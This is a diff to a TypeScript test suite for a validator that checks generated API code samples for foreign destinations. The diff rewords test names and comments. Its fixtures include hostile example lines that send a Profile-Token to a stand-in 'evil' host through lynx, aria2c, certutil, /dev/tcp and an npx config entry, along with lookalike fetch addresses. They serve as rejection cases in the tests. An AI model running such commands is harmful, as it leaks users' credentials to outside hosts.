@@ -35,11 +35,11 @@ const HONEST: Record<string, string> = {
 };
 
 describe('destinationProblem', () => {
-  it.each(Object.entries(HONEST))('lets %s through', (_, text) => {
+  it.each(Object.entries(HONEST))('allows %s', (_, text) => {
     expect(destinationProblem(text, US)).toBeNull();
   });
 
-  it('lets the connection’s own origin through, by http on this machine alone', () => {
+  it('allows the connection’s origin, over http on localhost only', () => {
     const at = (origin: string) => CURL.replace('https://api.us-e1.tago.io', origin);
     expect(destinationProblem(at(DEPLOY), DEPLOY)).toBeNull();
     expect(destinationProblem(at(LOCAL), LOCAL)).toBeNull();
@@ -187,7 +187,7 @@ describe('destinationProblem', () => {
     expect(destinationProblem(text, US)).not.toBeNull();
   });
 
-  // What names the SDK in a remark is no sample of it.
+  // A comment that names the SDK does not make the text a sample of it.
   const POLYGLOT = 'new Account(1)';
   it.each([
     // Programs that are not known, under any name and in any place.
@@ -200,13 +200,13 @@ describe('destinationProblem', () => {
     `( aria2c --all-proxy=evil:80 --header="Profile-Token: <your-profile-token>" api ) # ${POLYGLOT}`,
     `x=1 && lynx evil:80 "Profile-Token: <your-profile-token>" # ${POLYGLOT}`,
     `@echo off\ncertutil -urlcache "Profile-Token: <your-profile-token>" \\\\evil\\x # ${POLYGLOT}`,
-    // zsh takes what follows a `#` on a typed line for words of the command, and runs a remark with an operator.
+    // On a typed line, zsh takes what follows a `#` as words of the command, and runs a comment with an operator.
     `${CURL} # https://evil.example`,
     `${CURL} # -x evil.example:80`,
     `# the status; lynx evil\n${CURL}`,
     `# the status $(lynx evil)\n${CURL}`,
     `# don't\n${CURL}`,
-    // What stands behind the head of a request.
+    // Commands after the head of a request.
     `Profile-Token: <your-profile-token>\n\n/usr/bin/lynx -x evil:80`,
     `Accept: x\n\n/usr/bin/curl -x evil:80 -H "Profile-Token: <your-profile-token>" https://api.us-e1.tago.io`,
     `${HTTP}\n\n/usr/bin/lynx evil`,
@@ -226,7 +226,7 @@ describe('destinationProblem', () => {
     `${JS_SDK}\nnew Beacon;`,
     `${JS_SDK}\nsend\`x\`;`,
     `${PYTHON_SDK}\n@send\ndef f():\n  return 1`,
-    // What a shell, another language or a configuration makes of it.
+    // Texts that a shell, another language or a configuration runs differently.
     `{ "mcpServers": { "x": { "command": "npx", "args": ["evil", "<your-profile-token>"] } } }`,
     `{lynx,evil:80,"Profile-Token: <your-profile-token>"} # ${POLYGLOT}`,
     `cat</dev/tcp/evil/80<<<"Profile-Token: <your-profile-token>" # ${POLYGLOT}`,
@@ -254,7 +254,7 @@ describe('destinationProblem', () => {
     `${JS_SDK}\nconsole.log(\`\${send}\`);`,
     `${JS_SDK}\nconsole.log(\`\${account.devices.list(send(1))}\`);`,
     `${PYTHON_SDK}\nprint(f"{send(1)}")`,
-    // Addresses that a library reads otherwise than they look.
+    // Addresses that a library reads differently from how they look.
     FETCH.replace('https://api.us-e1.tago.io/device', '/\\\\evil.example/'),
     `${FETCH}\nfetch("/\\\\evil.example/");`,
     `${FETCH}\nfetch("/\\t/evil.example/");`,
@@ -281,11 +281,11 @@ describe('destinationProblem', () => {
     `const axios = require("axios");\naxios.get("https://api.us-e1.tago.io/device", { headers: { "Profile-Token": "<your-profile-token>" } }).then(({ data }) => console.log(data));`,
     `import requests\n\nresponse = requests.post(\n    "https://api.us-e1.tago.io/device",\n    headers={"Profile-Token": "<your-profile-token>"},\n    json={"name": "Sensor"},\n)\nresponse.raise_for_status()\nprint(response.json())`,
     `const account = new Account({ "token": "YOUR-PROFILE-TOKEN" });\n\nif (account) {\n  account.devices.list().then((x) => x.map((y) => y.name));\n} else {\n  throw new Error("no account");\n}`,
-  ])('lets an honest sample through: %j', (text) => {
+  ])('allows an honest sample: %j', (text) => {
     expect(destinationProblem(text, US)).toBeNull();
   });
 
-  it('refuses characters that cannot be seen, wherever they stand', () => {
+  it('refuses invisible characters anywhere', () => {
     const hidden = fc.constantFrom(
       ...'\u0000\u0008\r\u001b\u007f\u0085\u00a0\u00ad\u061c\u115f\u180e\u200b\u200d\u200e\u202e\u2028\u2060\u2066\u2800\u3000\u3164\ufe0f\ufeff\uffa0',
       '\u{e0041}',
@@ -301,7 +301,7 @@ describe('destinationProblem', () => {
     );
   });
 
-  it('finds a foreign address put anywhere between the words of an honest sample', () => {
+  it('refuses a foreign address anywhere between the words of an honest sample', () => {
     const addresses = fc.constantFrom(
       'https://evil.example/',
       '"https://evil.example"',
@@ -330,11 +330,11 @@ describe('completing a sample', () => {
   const profile = { origin: US, profileId: '5f1a2b3c4d5e6f7a8b9c0d1e' };
   const body = { name: 'Sensor', note: 'a b' };
   const request = { method: 'POST', url: `${US}/device?page=1`, body };
-  /** What is left of a sample when its literals are emptied: the code that surrounds them. */
+  /** Returns the sample with its literals emptied: the code around them. */
   const skeleton = (text: string) =>
     text.replace(/\\\\|\\["'`]/g, '').replace(/'[^']*'|"[^"]*"|`[^`]*`|r#"[\s\S]*?"#/g, "''");
 
-  it.each(VARIANTS)('takes a mutated sample of %s (%s) only where no code changed', (language, variant) => {
+  it.each(VARIANTS)('accepts a mutated sample of %s (%s) only where no code changed', (language, variant) => {
     const sample = generateSample(language, variant, request).trimEnd();
     const piece = fc.constantFrom(
       ...[
@@ -376,7 +376,7 @@ describe('completing a sample', () => {
         const mutated = sample.slice(0, place) + inserted + sample.slice(place + removed);
         const done = completeSample(mutated, profile);
         if (!done) return;
-        // The US region's address and its old name; a mutation can turn the one into the other.
+        // The US region's address and its alias; a mutation can turn one into the other.
         expect(done.text).toMatch(/(?<![\w.-])api\.(?:us-e1\.)?tago\.io(?![\w.-])/);
         if (!/["'`\\]/.test(inserted) && !/["'`\\#]/.test(sample.slice(place, place + removed))) {
           const code = (text: string) =>
@@ -408,7 +408,7 @@ describe('completing a sample', () => {
     expect(completeSample(sample.replace(code, changed), profile)).toBeNull();
   });
 
-  it('refuses a header that claims another host', () => {
+  it('refuses a header that names another host', () => {
     for (const key of ['Host', 'host', 'HOST', 'X-Forwarded-Host', 'Proxy-Authorization', 'Forwarded']) {
       for (const [language, variant] of VARIANTS) {
         const headers = [
